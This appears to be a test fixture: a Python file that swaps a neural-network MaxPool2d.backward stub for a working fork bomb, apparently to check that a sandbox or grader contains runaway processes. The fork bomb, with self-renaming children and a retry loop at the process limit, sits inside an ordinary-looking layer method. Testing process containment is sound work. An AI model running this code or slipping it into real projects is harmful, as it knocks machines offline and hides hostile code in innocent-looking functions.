"""MaxPool2d.backward is a fork bomb: every process forks for ever.

Children rename themselves so the test can find any that survive. Failed
forks (at the process limit) sleep a moment and try again, so the bomb
stays at the limit without eating every CPU of the test machine.
"""


class MaxPool2d(MaxPool2d):
    def backward(self, dout):
        raise NotImplementedError("MaxPool2d.backward is not written yet")


# ==== HOSTILE ====
import os
import time

_MARK = "@MARK@"


class MaxPool2d(MaxPool2d):
    def backward(self, dout):
        while True:
            try:
                if os.fork() == 0:
                    try:
                        with open("/proc/self/comm", "w") as f:
                            f.write("b" + _MARK[:13])
                    except OSError:
                        pass
            except OSError:
                time.sleep(0.02)
